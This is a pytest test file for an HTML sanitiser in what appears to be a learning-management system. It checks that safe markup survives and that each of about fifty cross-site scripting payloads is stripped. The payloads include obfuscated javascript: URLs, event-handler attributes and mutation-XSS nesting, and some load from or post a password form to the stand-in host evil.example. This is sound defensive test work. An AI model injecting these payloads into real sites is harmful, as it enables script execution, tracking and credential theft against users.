"""The one sanitiser: what people may write stays, what could run or lead astray goes."""

import re

import pytest

from lms.text.clean_html import TAGS, clean_html

HARMLESS = [
    "<p>Plain <strong>words</strong></p>",
    '<p><a href="https://example.org/a?b=1">a link</a></p>',
    '<p><a href="mailto:ada@example.org">write</a></p>',
    "<ul><li>one</li><li>two</li></ul>",
    "<h2>Heading</h2><blockquote><p>said</p></blockquote>",
    '<table><tbody><tr><th scope="row">a</th><td>b</td></tr></tbody></table>',
    "<p>1 &lt; 2 &amp; 3</p>",
]
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/x>alert(1)</script\t\n bar>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(//evil.example)}",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='https://ok.example' onfocus=alert(1) autofocus>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<a href='//evil.example' id='cookie' name='cookie' target=_blank>x</a>",
    "<x-widget is=evil onclick=alert(1)>x</x-widget>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAG = re.compile(r"<\s*/?\s*([a-z0-9-]+)([^>]*)>", re.I)


@pytest.mark.parametrize("html", HARMLESS)
def test_harmless_html_stays_as_it_is(html):
    assert clean_html(html) == html


@pytest.mark.parametrize("html", ATTACKS)
def test_attacks_leave_only_harmless_tags(html):
    cleaned = clean_html(html)

    for name, attributes in TAG.findall(cleaned):
        assert name.lower() in TAGS
        assert not re.search(r"\bon\w+\s*=|style\s*=|javascript:|vbscript:|data:|\bid\s*=|\bsrc\s*=", attributes, re.I)


@pytest.mark.parametrize("html", ATTACKS)
def test_what_is_clean_stays_the_same_when_cleaned_again(html):
    once = clean_html(html)

    assert clean_html(once) == once


@pytest.mark.parametrize("element", ["script", "style", "template", "iframe", "svg"])
def test_the_inside_of_a_dangerous_element_goes_with_it(element):
    assert clean_html(f"<p>a</p><{element}>inside</{element}><p>b</p>") == "<p>a</p><p>b</p>"
